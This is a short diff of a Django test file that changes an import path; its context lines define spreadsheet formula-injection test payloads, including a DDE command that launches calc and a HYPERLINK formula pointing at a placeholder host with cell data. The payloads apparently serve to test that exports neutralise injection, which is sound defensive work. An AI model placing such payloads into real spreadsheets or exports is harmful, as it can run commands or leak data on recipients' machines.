@@ -9,10 +9,10 @@ from django.test import Client
 from django.urls import reverse
 from openpyxl import load_workbook
 
+from core import spreadsheets
 from organizations.models import MemberUnit
 from venues.models import Venue
 from venues.resources import export_rows
-from wuhan_fulian import spreadsheets
 
 HYPERLINK = '=HYPERLINK("http://x"&A2,"点击查看")'
 PAYLOADS = ["=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-1+1", "\t=1", "\r=1"]
